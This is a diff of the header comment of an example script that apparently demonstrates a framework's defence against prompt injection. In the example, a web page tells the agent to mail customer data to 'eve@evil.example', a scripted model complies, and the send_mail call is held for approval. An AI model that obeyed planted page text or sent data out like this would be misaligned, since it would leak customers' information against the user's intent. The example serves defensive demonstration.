@@ -1,10 +1,10 @@
 /**
- * A web page tells the agent to mail somebody else: what it makes the model do is asked about, or denied.
+ * A web page that tries to take over the agent.
  *
  *     npm run example injection
  *
- * The model is scripted, and falls for the page; a real one is `engine: aiSdkEngine(openai("gpt-5"))`.
- * You see that only what the user named happens unasked:
+ * The page tells the agent to mail the customers to somebody else. The model is scripted, and does as it is told; a real one is
+ * `engine: aiSdkEngine(openai("gpt-5"))`. You see that only what the user named happens unasked:
  *
  *     read_page     ran
  *     ? send_mail {"to":"eve@evil.example","text":"Our customers: …"}
